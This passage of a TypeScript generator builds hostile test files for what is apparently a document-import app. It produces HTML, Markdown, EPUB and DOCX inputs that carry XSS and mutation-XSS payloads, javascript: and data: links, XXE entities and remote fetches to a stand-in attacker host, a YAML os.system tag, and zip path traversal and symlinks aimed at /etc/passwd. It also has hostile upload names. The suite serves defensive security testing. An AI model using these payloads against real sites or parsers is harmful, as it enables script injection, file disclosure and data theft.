    ['iframe-lazy', (p) => `<iframe loading="lazy" src="${p.url}" sandbox="allow-scripts"></iframe>`],
  ];
  for (const [slug, build] of cases) {
    const name = `html-resource-${slug}.html`;
    add('html-resource', name, () =>
      htmlPage(name, build(payloadFor(name)), {
        bodyAttrs: slug === 'body-background' ? ` background="${remoteFor(name, '-body.png')}"` : '',
      }),
    );
  }
}

function htmlTemplateCases(add: Add): void {
  const cases: [string, (p: Payload) => string][] = [
    ['template-img', (p) => `<template><img src="x" onerror="${p.js}"></template><p>A template.</p>`],
    ['template-script', (p) => `<template><script>${p.js}</script></template>`],
    ['noscript-title', (p) => `<noscript><p title="</noscript><img src=x onerror=${p.js}>"></p></noscript>`],
    ['noscript-img', (p) => `<noscript><img src="x" onerror="${p.js}"></noscript>`],
    ['textarea', (p) => `<textarea><img src="x" onerror="${p.js}"></textarea><p>After the textarea.</p>`],
    ['title-in-body', (p) => `<title><img src="x" onerror="${p.js}"></title><p>After the title.</p>`],
    ['xmp', (p) => `<xmp><img src="x" onerror="${p.js}"></xmp>`],
    ['plaintext', (p) => `<p>Plain text follows.</p><plaintext><img src="x" onerror="${p.js}">`],
    [
      'noembed',
      (p) =>
        `<noembed><img src="x" onerror="${p.js}"></noembed><noframes><img src="x" onerror="${p.js}"></noframes>`,
    ],
    ['select-template', (p) => `<select><template><img src="x" onerror="${p.js}"></template></select>`],
    ['object-param', (p) => `<object><param name="src" value="javascript:${p.js}"></object>`],
    [
      'shadowroot',
      (p) =>
        `<div><template shadowrootmode="open"><img src="x" onerror="${p.js}"><p>shadow</p></template></div>`,
    ],
    [
      'iframe-srcdoc-script',
      (p) => `<iframe srcdoc="&lt;script&gt;${xmlEscape(p.js)}&lt;/script&gt;"></iframe>`,
    ],
    [
      'details-ontoggle',
      (p) => `<details open ontoggle="${p.js}"><summary>Open</summary><p>Inside.</p></details>`,
    ],
  ];
  for (const [slug, build] of cases) {
    const name = `html-template-${slug}.html`;
    add('html-template', name, () => htmlPage(name, build(payloadFor(name))));
  }
}

function htmlMutationCases(add: Add): void {
  const cases: [string, (p: Payload) => string][] = [
    ['svg-p-style', (p) => `<svg></p><style><a id="</style><img src=1 onerror=${p.js}>">`],
    [
      'math-mglyph-comment',
      (p) =>
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${xmlEscape(p.js)}&gt;">`,
    ],
    ['form-math', (p) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${p.js}>`],
    ['noscript-p-title', (p) => `<noscript><p title="</noscript><img src=x onerror=${p.js}>">`],
    ['svg-p-style-g', (p) => `<svg><p><style><g title="</style><img src=x onerror=${p.js}>">`],
    [
      'math-textarea-path',
      (p) =>
        `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${p.js} src=1>"></path></textarea></mtext></svg></mglyph></mi></math>`,
    ],
    ['listing', (p) => `<listing>&lt;img src=x onerror=${xmlEscape(p.js)}&gt;</listing>`],
    ['backtick-attribute', (p) => `<img src="x\` \`<script>${p.js}</script>"\` \`>`],
    [
      'form-button',
      (p) => `<div><form id="f1"></form><button form="f1" formaction="javascript:${p.js}">X</button></div>`,
    ],
    [
      'caption-svg-style',
      (p) => `<table><caption><svg><style><img src=x onerror=${p.js}></style></svg></caption></table>`,
    ],
    ['svg-style-entities', (p) => `<svg><style>&lt;img src=x onerror=${xmlEscape(p.js)}&gt;</style></svg>`],
    ['comment-bogus', (p) => `<!--><img src=x onerror=${p.js}>-->`],
    ['cdata-in-html', (p) => `<![CDATA[><img src=x onerror=${p.js}>]]>`],
    ['processing-instruction', (p) => `<?xml-stylesheet href="${p.url}"?><img src=x onerror=${p.js}>`],
    ['nested-a', (p) => `<a href="https://example.org/"><a href="javascript:${p.js}">inner</a>outer</a>`],
    [
      'select-option-style',
      (p) => `<select><option><style></option></select><img src=x onerror=${p.js}></style>`,
    ],
  ];
  for (const [slug, build] of cases) {
    const name = `html-mxss-${slug}.html`;
    add('html-mxss', name, () => htmlPage(name, build(payloadFor(name))));
  }
}

function htmlObfuscatedCases(add: Add): void {
  const cases: [string, (p: Payload) => string][] = [
    ['entity-handler', (p) => `<img src="x" onerror="${entities(p.js)}">`],
    ['hex-entity-handler', (p) => `<img src="x" onerror="${entities(p.js, true)}">`],
    ['mixed-case', (p) => `<ImG sRc="x" OnErRoR="${p.js}"><A HrEf="JaVaScRiPt:${p.js}">mixed</A>`],
    ['newline-split', (p) => `<img\nsrc="x"\nonerror\n=\n"${p.js}"\n>`],
    ['tab-split', (p) => `<img\tsrc="x"\tonerror="${p.js}"\t>`],
    ['null-in-attribute', (p) => `<img src="x" on\u0000error="${p.js}"><img src=x onerror\u0000="${p.js}">`],
    ['null-in-tag', (p) => `<scr\u0000ipt>${p.js}</scr\u0000ipt><img\u0000 src=x onerror="${p.js}">`],
    ['slash-separators', (p) => `<img/src="x"/onerror="${p.js}"><svg/onload="${p.js}">`],
    ['unquoted', (p) => `<img src=x onerror=${p.js}>`],
    ['double-quote-break', (p) => `<p title="a"onmouseover="${p.js}">no space between attributes</p>`],
    ['attribute-in-closing-tag', (p) => `<p>closing</p onmouseover="${p.js}">`],
    ['fullwidth', (p) => `<p>＜script＞${p.js}＜/script＞ stays text.</p>`],
    ['overlong-tag', (p) => `<img ${'a'.repeat(4000)}="1" src="x" onerror="${p.js}">`],
    [
      'many-attributes',
      (p) =>
        `<p ${Array.from({ length: 500 }, (_, i) => `data-a${i}="${i}"`).join(' ')} onclick="${p.js}">many attributes</p>`,
    ],
    ['unicode-escape-js', (p) => `<img src="x" onerror="\\u0077indow.__scholiaPwned('${p.name}')">`],
  ];
  for (const [slug, build] of cases) {
    const name = `html-obfuscated-${slug}.html`;
    add('html-obfuscated', name, () => htmlPage(name, build(payloadFor(name))));
  }
}

// ---------------------------------------------------------------------------------------------------
// Markdown

function markdownCases(add: Add, full: boolean): void {
  const cases: [string, (p: Payload) => string][] = [
    ['raw-script', (p) => `<script>${p.js}</script>`],
    ['raw-img-onerror', (p) => `<img src="x" onerror="${p.js}">`],
    [
      'inline-html',
      (p) => `Text with <img src=x onerror="${p.js}"> inline and <b onclick="${p.js}">bold</b>.`,
    ],
    ['raw-iframe', (p) => `<iframe src="javascript:${p.js}"></iframe>`],
    ['raw-svg', (p) => `<svg onload="${p.js}"><script>${p.js}</script></svg>`],
    ['raw-style', (p) => `<style>@import url(${p.url}.css);</style>`],
    ['link-javascript', (p) => `[click me](javascript:${p.js})`],
    ['link-javascript-uppercase', (p) => `[click me](JAVASCRIPT:${p.js})`],
    ['link-javascript-entity', (p) => `[click me](&#106;avascript:${p.js})`],
    ['link-angle-brackets', (p) => `[click me](<javascript:${p.js}>)`],
    ['link-data', (p) => `[click me](data:text/html;base64,${base64(`<script>${p.js}</script>`)})`],
    ['link-vbscript', (p) => `[click me](vbscript:msgbox(${p.name}))`],
    ['link-remote', (p) => `[a remote link](${p.url})`],
    ['link-title-breakout', (p) => `[titled](${p.url} "\\" onmouseover=\\"${p.js}")`],
    ['link-fragment-breakout', (p) => `[fragment](#"><img/src=x/onerror=${p.js}>)`],
    ['image-remote', (p) => `![a remote image](${p.url}.png)`],
    [
      'image-remote-titled',
      (p) => `![a remote image](${EVIL_TLS}/${encodeURIComponent(p.name)}.png "a title")`,
    ],
    ['image-javascript', (p) => `![an image](javascript:${p.js})`],
    ['reference-link-javascript', (p) => `[a reference][r]\n\n[r]: javascript:${p.js}`],
    ['reference-image-remote', (p) => `![a reference image][i]\n\n[i]: ${p.url}.png`],
    ['autolink-javascript', (p) => `<javascript:${p.js}>`],
    ['autolink-remote', (p) => `<${p.url}>`],
    ['autolink-email', () => `<mallory@${EVIL_HOST}>`],
    ['html-comment', (p) => `<!-- <script>${p.js}</script> -->`],
    ['fenced-code', (p) => `\`\`\`html onload="${p.js}"\n<script>${p.js}</script>\n\`\`\``],
    ['setext-html', (p) => `<img src=x onerror="${p.js}">\n===`],
    [
      'entities-in-text',
      (p) => `&lt;script&gt;${p.js}&lt;/script&gt; and &#60;img src=x onerror=${p.js}&#62;`,
    ],
    [
      'front-matter-payload',
      (p) =>
        `---\ntitle: "<img src=x onerror=${p.js}>"\nauthor: ["<script>${p.js}</script>", "Mallory <svg onload=${p.js}>"]\ndate: 2024-01-01\nurl: javascript:${p.js}\n---\n`,
    ],
    [
      'front-matter-anchors',
      () =>
        `---\na: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\ntitle: *c\n---\n`,
    ],
    [
      'front-matter-js-tag',
      (p) =>
        `---\ntitle: !!js/function "function(){${p.js}}"\nauthor: !!python/object/apply:os.system ["echo pwned"]\n---\n`,
    ],
  ];
  for (const [slug, build] of cases) {
    const name = `markdown-${slug}.md`;
    add('markdown', name, () => {
      const payload = build(payloadFor(name));
      const head = payload.startsWith('---\n') ? payload : '';
      const body = head === '' ? payload : '';
      return `${head}# Hostile Markdown ${name}\n\n${proseFor(name, 3)}\n\n${body}\n\n${proseFor(`${name}:end`, 2)}\n`;
    });
  }
  const depth = full ? 100_000 : 2_000;
  add(
    'markdown',
    'markdown-deep-blockquotes.md',
    () => `# Deep quotes\n\n${'> '.repeat(depth)}at the bottom\n`,
  );
  add(
    'markdown',
    'markdown-deep-lists.md',
    () =>
      `# Deep lists\n\n${Array.from({ length: Math.min(depth, 5_000) }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n')}\n`,
  );
  add(
    'markdown',
    'markdown-many-brackets.md',
    () => `# Brackets\n\n${'['.repeat(depth)}text${']'.repeat(depth)}(${EVIL})\n`,
  );
  add('markdown', 'markdown-pathological-emphasis.md', () => `# Emphasis\n\n${'*a **a '.repeat(depth)}\n`);
  add('markdown', 'markdown-extension-markdown.markdown', () => {
    const { js, url } = payloadFor('markdown-extension-markdown.markdown');
    return `# A .markdown file\n\n${proseFor('md2', 2)}\n\n<script>${js}</script>\n\n[x](javascript:${js}) ![y](${url}.png)\n`;
  });
}

// ---------------------------------------------------------------------------------------------------
// EPUB and DOCX

function epubCases(add: Add): void {
  const bodies: [
    string,
    (p: Payload) => string,
    { head?: (p: Payload) => string; doctype?: (p: Payload) => string; prolog?: (p: Payload) => string }?,
  ][] = [
    [
      'script',
      (p) =>
        `<script>${xmlEscape(p.js)}</script><script type="text/javascript">//<![CDATA[\n${p.js}\n//]]></script>`,
    ],
    [
      'event-handlers',
      (p) =>
        `<img src="x" onerror="${xmlEscape(p.js)}" alt="x"/><p onclick="${xmlEscape(p.js)}">click</p><svg xmlns="http://www.w3.org/2000/svg" onload="${xmlEscape(p.js)}"/>`,
    ],
    [
      'javascript-links',
      (p) =>
        `<p><a href="javascript:${xmlEscape(p.js)}">a script link</a> <a href="data:text/html;base64,${base64(`<script>${p.js}</script>`)}">data</a> <a xlink:href="javascript:${xmlEscape(p.js)}">xlink</a></p>`,
    ],
    [
      'remote-image',
      (p) =>
        `<p><img src="${xmlEscape(p.url)}.png" alt="remote"/></p><figure><img srcset="${xmlEscape(p.url)}-2.png 2x" alt="srcset"/></figure>`,
    ],
    [
      'remote-stylesheet',
      () => '<p>Styled by a remote sheet.</p>',
      { head: (p) => `<link rel="stylesheet" type="text/css" href="${xmlEscape(p.url)}.css"/>` },
    ],
    [
      'style-import',
      () => '<p>Styled by an import.</p>',
      { head: (p) => `<style>@import url(${p.url}.css); body{background:url(${p.url}.png)}</style>` },
    ],
    [
      'iframe',
      (p) =>
        `<iframe src="${xmlEscape(p.url)}"/><iframe srcdoc="&lt;script&gt;${xmlEscape(p.js)}&lt;/script&gt;"/>`,
    ],
    [
      'object-embed',
      (p) => `<object data="${xmlEscape(p.url)}.swf"/><embed src="javascript:${xmlEscape(p.js)}"/>`,
    ],
    [
      'svg-foreignobject',
      (p) =>
        `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${xmlEscape(p.js)}"/></foreignObject><script>${xmlEscape(p.js)}</script></svg>`,
    ],
    [
      'mathml',
      (p) =>
        `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${xmlEscape(p.js)}"><mi>x</mi></maction></math>`,
    ],
    [
      'xml-stylesheet-pi',
      () => '<p>A processing instruction names a remote sheet.</p>',
      { prolog: (p) => `<?xml-stylesheet type="text/css" href="${xmlEscape(p.url)}.css"?>\n` },
    ],
    [
      'xinclude',
      (p) =>
        `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${xmlEscape(p.url)}.xml" parse="text"/>`,
    ],
    [
      'external-dtd',
      () => '<p>An external DTD.</p>',
      { doctype: (p) => `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "${p.url}.dtd">` },
    ],
    [
      'xxe-remote',
      () => '<p>Remote entity: &remote;</p>',
      { doctype: (p) => `<!DOCTYPE html [<!ENTITY remote SYSTEM "${p.url}.ent">]>` },
    ],
    [
      'parameter-entity',
      () => '<p>Parameter entity.</p>',
      { doctype: (p) => `<!DOCTYPE html [<!ENTITY % remote SYSTEM "${p.url}.dtd"> %remote;]>` },
    ],
    [
      'html-namespace-script',
      (p) =>
        `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${xmlEscape(p.js)}</html:script><svg:script xmlns:svg="http://www.w3.org/2000/svg">${xmlEscape(p.js)}</svg:script>`,
    ],
    [
      'epub-switch',
      (p) =>
        `<epub:switch><epub:case required-namespace="x"><script>${xmlEscape(p.js)}</script></epub:case><epub:default><p>default</p></epub:default></epub:switch>`,
    ],
    [
      'base-href',
      () => '<p><a href="chapter2.xhtml">relative</a></p>',
      { head: (p) => `<base href="${xmlEscape(p.url)}/"/>` },
    ],
    [
      'meta-refresh',
      () => '<p>Refreshing.</p>',
      { head: (p) => `<meta http-equiv="refresh" content="0;url=${xmlEscape(p.url)}"/>` },
    ],
  ];
  for (const [slug, body, options] of bodies) {
    const name = `epub-${slug}.epub`;
    add('epub', name, () => {
      const p = payloadFor(name);
      return epubWithBody(name, body(p), {
        ...(options?.head === undefined ? {} : { head: options.head(p) }),
        ...(options?.doctype === undefined ? {} : { doctype: options.doctype(p) }),
        ...(options?.prolog === undefined ? {} : { prolog: options.prolog(p) }),
      });
    });
  }
  const notWellFormed = 'epub-not-well-formed.epub';
  add('epub', notWellFormed, () => {
    const { js } = payloadFor(notWellFormed);
    return epub({
      chapters: [
        `<?xml version="1.0"?><html><body><h1>Broken<p>${proseFor(notWellFormed, 3)}<script>${js}</script><img src=x onerror="${js}"><br></body>`,
      ],
    });
  });
  const metadata = 'epub-metadata-payloads.epub';
  add('epub', metadata, () => {
    const { js, url } = payloadFor(metadata);
    return epub({
      titleXml: xmlEscape(`<img src=x onerror="${js}">`),
      metadataXml:
        `<dc:creator>${xmlEscape(`<script>${js}</script>`)}</dc:creator><dc:creator>${xmlEscape(`Mallory <svg onload="${js}">`)}</dc:creator>` +
        `<dc:publisher>${xmlEscape(`<iframe src="javascript:${js}">`)}</dc:publisher><dc:date>${xmlEscape(`<b onclick="${js}">2024</b>`)}</dc:date>` +
        `<dc:description>${xmlEscape(`<a href="javascript:${js}">about</a>`)}</dc:description><dc:source>${xmlEscape(url)}</dc:source>` +
        `<dc:identifier>${xmlEscape(`doi:10.1000/"><img src=x onerror="${js}">`)}</dc:identifier>`,
      chapters: [chapterXhtml(`<h1>Chapter</h1><p>${proseFor(metadata, 3)}</p>`)],
    });
  });
  const remoteManifest = 'epub-remote-manifest.epub';
  add('epub', remoteManifest, () => {
    const { url } = payloadFor(remoteManifest);
    return epub({
      chapters: [
        chapterXhtml(`<h1>Local chapter</h1><p>${proseFor(remoteManifest, 3)}</p>`),
        { path: 'OEBPS/remote', href: `${url}.xhtml`, xhtml: null },
      ],
      manifestXml: `<item id="cover" href="${xmlEscape(url)}.jpg" media-type="image/jpeg" properties="cover-image"/><item id="css" href="${xmlEscape(url)}.css" media-type="text/css"/>`,
      metadataXml: '<meta name="cover" content="cover"/>',
    });
  });
  const nav = 'epub-nav-payloads.epub';
  add('epub', nav, () => {
    const { js } = payloadFor(nav);
    return epub({
      chapters: [
        chapterXhtml(`<p>${proseFor(nav, 3)}</p>`, {}),
        chapterXhtml(`<p>${proseFor(`${nav}:2`, 3)}</p>`),
      ],
      nav:
        `<?xml version="1.0" encoding="utf-8"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head><body>` +
        `<nav epub:type="toc"><ol><li><a href="text/ch0.xhtml">${xmlEscape(`<img src=x onerror="${js}">`)}</a></li>` +
        `<li><a href="javascript:${xmlEscape(js)}"><span onclick="${xmlEscape(js)}">${xmlEscape(`<script>${js}</script>`)}</span></a></li></ol></nav></body></html>`,
    });
  });
  const ncx = 'epub-ncx-payloads.epub';
  add('epub', ncx, () => {
    const { js } = payloadFor(ncx);
    return epub({
      chapters: [chapterXhtml(`<p>${proseFor(ncx, 3)}</p>`)],
      manifestXml: '<item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/>',
      files: [
        {
          name: 'OEBPS/toc.ncx',
          content:
            `<?xml version="1.0" encoding="utf-8"?><ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1"><navMap>` +
            `<navPoint id="p0" playOrder="1"><navLabel><text>${xmlEscape(`<svg onload="${js}">`)}</text></navLabel><content src="text/ch0.xhtml"/></navPoint></navMap></ncx>`,
        },
      ],
    });
  });
}

function docxCases(add: Add): void {
  const cases: [
    string,
    (p: Payload) => { inner: string; rels?: string; files?: ZipFile[]; title?: string; creator?: string },
  ][] = [
    ['text-script', (p) => ({ inner: para(run(`<script>${p.js}</script> <img src=x onerror="${p.js}">`)) })],
    [
      'hyperlink-javascript',
      (p) => ({
        inner: para(`<w:hyperlink r:id="rIdL">${run('a script link')}</w:hyperlink>`),
        rels: externalRel('rIdL', 'hyperlink', `javascript:${p.js}`),
      }),
    ],
    [
      'hyperlink-data',
      (p) => ({
        inner: para(`<w:hyperlink r:id="rIdL">${run('a data link')}</w:hyperlink>`),
        rels: externalRel('rIdL', 'hyperlink', `data:text/html;base64,${base64(`<script>${p.js}</script>`)}`),
      }),
    ],
    [
      'hyperlink-vbscript',
      (p) => ({
        inner: para(`<w:hyperlink r:id="rIdL">${run('a vbscript link')}</w:hyperlink>`),
        rels: externalRel('rIdL', 'hyperlink', `vbscript:msgbox("${p.name}")`),
      }),
    ],
    [
      'hyperlink-remote',
      (p) => ({
        inner: para(
          `<w:hyperlink r:id="rIdL" w:tooltip="${xmlEscape(`"><img src=x onerror="${p.js}">`)}">${run('a remote link')}</w:hyperlink>`,
        ),
        rels: externalRel('rIdL', 'hyperlink', p.url),
      }),
    ],
    [
      'hyperlink-anchor-breakout',
      (p) => ({
        inner: para(
          `<w:hyperlink w:anchor="${xmlEscape(`"><img/src=x/onerror=${p.js}>`)}">${run('an anchor')}</w:hyperlink>`,
        ),
      }),
    ],
    [
      'external-image',
      (p) => ({
        inner: para(
          `<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="remote" descr="${xmlEscape(`<img src=x onerror="${p.js}">`)}"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
            `<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="remote"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdImg"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`,
        ),
        rels: externalRel('rIdImg', 'image', `${p.url}.png`),
      }),
    ],
    [
      'vml-image',
      (p) => ({
        inner: para(
          `<w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdV" o:href="${xmlEscape(p.url)}.png" o:title="vml"/></v:shape></w:pict></w:r>`,
        ),
        rels: externalRel('rIdV', 'image', `${p.url}-vml.png`),
      }),
    ],
    [
      'field-hyperlink',
      (p) => ({
        inner:
          para(
            `<w:fldSimple w:instr="${xmlEscape(`HYPERLINK "javascript:${p.js}"`)}">${run('a simple field')}</w:fldSimple>`,
          ) +
          para(
            `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${xmlEscape(` HYPERLINK "javascript:${p.js}" `)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run('a complex field')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
          ),
      }),
    ],
    [
      'field-includepicture',
      (p) => ({
        inner: para(
          `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${xmlEscape(` INCLUDEPICTURE "${p.url}.png" \\d `)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`,
        ),
      }),
    ],
    [
      'attached-template',
      (p) => ({
        inner: para(run('A document with a remote template.')),
        files: [
          {
            name: 'word/settings.xml',
            content: `<?xml version="1.0" encoding="UTF-8"?><w:settings ${DOCX_NS}><w:attachedTemplate r:id="rIdT"/></w:settings>`,
          },
          {
            name: 'word/_rels/settings.xml.rels',
            content: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${externalRel('rIdT', 'attachedTemplate', `${p.url}.dotm`)}</Relationships>`,
          },
        ],
      }),
    ],
    [
      'altchunk',
      (p) => ({
        inner: `<w:altChunk r:id="rIdA"/><w:altChunk r:id="rIdB"/>`,
        rels: `<Relationship Id="rIdA" Type="${REL}/aFChunk" Target="chunk.html"/>${externalRel('rIdB', 'aFChunk', `${p.url}.html`)}`,
        files: [
          {
            name: 'word/chunk.html',
            content: `<html><body><script>${p.js}</script><img src=x onerror="${p.js}"></body></html>`,
          },
        ],
      }),
    ],
    [
      'core-payloads',
      (p) => ({
        inner: para(run('The properties carry payloads.')),
        title: `<img src=x onerror="${p.js}">`,
        creator: `<script>${p.js}</script>; Mallory <svg onload="${p.js}">`,
      }),
    ],
    [
      'footnote-payloads',
      (p) => ({
        inner: para(`${run('A note follows.')}<w:r><w:footnoteReference w:id="1"/></w:r>`),
        rels: `<Relationship Id="rIdF" Type="${REL}/footnotes" Target="footnotes.xml"/>`,
        files: [
          {
            name: 'word/footnotes.xml',
            content: `<?xml version="1.0" encoding="UTF-8"?><w:footnotes ${DOCX_NS}><w:footnote w:id="1">${para(run(`<script>${p.js}</script>`))}${para(`<w:hyperlink r:id="rIdX">${run('note link')}</w:hyperlink>`)}</w:footnote></w:footnotes>`,
          },
          {
            name: 'word/_rels/footnotes.xml.rels',
            content: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${externalRel('rIdX', 'hyperlink', `javascript:${p.js}`)}</Relationships>`,
          },
        ],
      }),
    ],
    [
      'styles-payload',
      (p) => ({
        inner: `<w:p><w:pPr><w:pStyle w:val="Evil"/></w:pPr>${run('A paragraph in a hostile style.')}</w:p>`,
        rels: `<Relationship Id="rIdS" Type="${REL}/styles" Target="styles.xml"/>`,
        files: [
          {
            name: 'word/styles.xml',
            content: `<?xml version="1.0" encoding="UTF-8"?><w:styles ${DOCX_NS}><w:style w:type="paragraph" w:styleId="Evil"><w:name w:val="${xmlEscape(`<img src=x onerror="${p.js}">`)}"/></w:style></w:styles>`,
          },
        ],
      }),
    ],
    [
      'xxe-remote',
      (p) => ({
        inner: para(run('An external entity follows.')),
        files: [
          {
            name: 'word/extra.xml',
            content: `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY r SYSTEM "${p.url}.ent">]><x>&r;</x>`,
          },
        ],
      }),
    ],
  ];
  for (const [slug, build] of cases) {
    const name = `docx-${slug}.docx`;
    add('docx', name, () => {
      const built = build(payloadFor(name));
      return docxAround(name, built.inner, {
        ...(built.rels === undefined ? {} : { relsXml: built.rels }),
        ...(built.files === undefined ? {} : { files: built.files }),
        ...(built.title === undefined ? {} : { title: built.title }),
        ...(built.creator === undefined ? {} : { creator: built.creator }),
      });
    });
  }
  add(
    'docx',
    'docx-not-a-zip.docx',
    () => "<html><script>window.__scholiaPwned('docx-not-a-zip.docx')</script></html>",
  );
  add('docx', 'docx-no-document.docx', () =>
    writeZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/other.xml', content: '<x/>' },
    ]),
  );
  const xxeRemote = 'docx-xxe-remote-document.docx';
  add('docx', xxeRemote, () =>
    writeZip([
      {
        name: '[Content_Types].xml',
        content:
          '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
      },
      {
        name: '_rels/.rels',
        content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/></Relationships>`,
      },
      {
        name: 'word/document.xml',
        content: `<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY r SYSTEM "${remoteFor(xxeRemote)}.ent">]><w:document ${DOCX_NS}><w:body>${para(run('Entity:'))}<w:p><w:r><w:t>&r;</w:t></w:r></w:p></w:body></w:document>`,
      },
    ]),
  );
}

// ---------------------------------------------------------------------------------------------------
// Paths inside packages, and the upload's own name

function zipPathCases(add: Add, full: boolean): void {
  const chapter = (name: string): string => chapterXhtml(`<h1>${name}</h1><p>${proseFor(name, 3)}</p>`);
  const withEntry = (name: string, entryName: string, content = 'root:x:0:0:root:/root:/bin/sh\n'): void =>
    add('zip-path', name, () => epub({ chapters: [chapter(name)], files: [{ name: entryName, content }] }));
  withEntry('zip-path-dotdot.epub', '../../../../../../tmp/scholia-hostile-escape/etc/passwd');
  withEntry('zip-path-absolute.epub', '/tmp/scholia-hostile-escape/absolute.txt');
  withEntry('zip-path-backslash.epub', '..\\..\\..\\Windows\\System32\\evil.dll');
  withEntry('zip-path-drive-letter.epub', 'C:\\Windows\\evil.xhtml', chapterXhtml('<p>drive</p>'));
  withEntry('zip-path-nul.epub', 'OEBPS/text/ch\u0000.xhtml', chapterXhtml('<p>nul</p>'));
  withEntry('zip-path-rtl.epub', 'OEBPS/text/\u202Elmthx.exe', 'binary');
  withEntry(
    'zip-path-long.epub',
    `${'a/'.repeat(full ? 30_000 : 2_000)}long.xhtml`,
    chapterXhtml('<p>long</p>'),
  );
  add('zip-path', 'zip-path-symlink.epub', () =>
    epub({
      chapters: [chapter('zip-path-symlink.epub')],
      files: [{ name: 'OEBPS/text/link.xhtml', content: '/etc/passwd', unixMode: 0o120777 }],
    }),
  );
  add('zip-path', 'zip-path-symlink-chapter.epub', () =>
    epub({
      chapters: [chapter('zip-path-symlink-chapter.epub'), { path: 'OEBPS/text/ch1.xhtml', xhtml: null }],
      files: [{ name: 'OEBPS/text/ch1.xhtml', content: '../../../../etc/passwd', unixMode: 0o120777 }],
    }),
  );
  const spine = (name: string, href: string): void =>
    add('zip-path', name, () =>
      epub({ chapters: [chapter(name), { path: 'OEBPS/none', href, xhtml: null }] }),
    );
  spine('zip-path-spine-dotdot.epub', '../../../../../../etc/passwd');
  spine('zip-path-spine-absolute.epub', '/etc/passwd');
  spine('zip-path-spine-file-url.epub', 'file:///etc/passwd');
  spine('zip-path-spine-percent.epub', '%2e%2e/%2e%2e/%2e%2e/etc/passwd');
  spine('zip-path-spine-remote.epub', `${EVIL}/zip-path-spine-remote.xhtml`);
  add('zip-path', 'zip-path-rootfile-dotdot.epub', () =>
    epub({ chapters: [chapter('zip-path-rootfile-dotdot.epub')], rootfile: '../../../../etc/passwd' }),
  );
  add('zip-path', 'zip-path-rootfile-absolute.epub', () =>
    epub({ chapters: [chapter('zip-path-rootfile-absolute.epub')], rootfile: '/etc/passwd' }),
  );
  add('zip-path', 'zip-path-duplicate-entries.epub', () => {
    const name = 'zip-path-duplicate-entries.epub';
    const built = epub({
      chapters: [chapter(name)],
      files: [
        {
          name: 'OEBPS/text/ch0.xhtml',
          content: chapterXhtml(`<p>second copy</p><script>${xmlEscape(scriptFor(name))}</script>`),
        },
      ],
    });
    return built;
  });
  add('zip-path', 'zip-path-dot-segments.epub', () =>
    epub({
      chapters: [
        {
          path: 'OEBPS//text/./ch0.xhtml',
          href: 'text/../text/./ch0.xhtml',
          xhtml: chapter('zip-path-dot-segments.epub'),
        },
      ],
    }),
  );
  add('zip-path', 'zip-path-docx-rels-dotdot.docx', () =>
    docx({ body: para(run('never read')), officeDocument: '../../../../../etc/passwd' }),
  );
  add('zip-path', 'zip-path-docx-document-dotdot.docx', () =>
    docx({
      body: para(run(proseFor('docx-dotdot', 2))),
      documentPath: '../word/document.xml',
      officeDocument: '../word/document.xml',
    }),
  );
}

function uploadNameCases(add: Add): void {
  const text = (title: string): string => `${title}\n\n${proseFor(title, 4)}\n`;
  const html = (label: string): string =>
    `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><article><p>${proseFor(label, 5)}</p><p>${proseFor(`${label}:2`, 5)}</p></article></body></html>`;
  const names: [string, () => string][] = [
    [
      '../../../../../../tmp/scholia-hostile-escape/passwd.txt',
      () => text('Upload named with dot-dot segments'),
    ],
    ['..\\..\\..\\..\\Windows\\win.ini.txt', () => text('Upload named with backslashes')],
    ['/etc/passwd.md', () => text('# Upload named with an absolute path')],
    ['C:\\fakepath\\..\\..\\evil.html', () => html('fakepath')],
    ['evil\u0000.txt', () => text('Upload named with a NUL')],
    ['\u0000.txt', () => text('Upload named with only a NUL')],
    ['invoice\u202Egpj.exe.md', () => text('# Upload named with a right-to-left override')],
    [`${'a'.repeat(10_000)}.txt`, () => text('Upload named with ten thousand characters')],
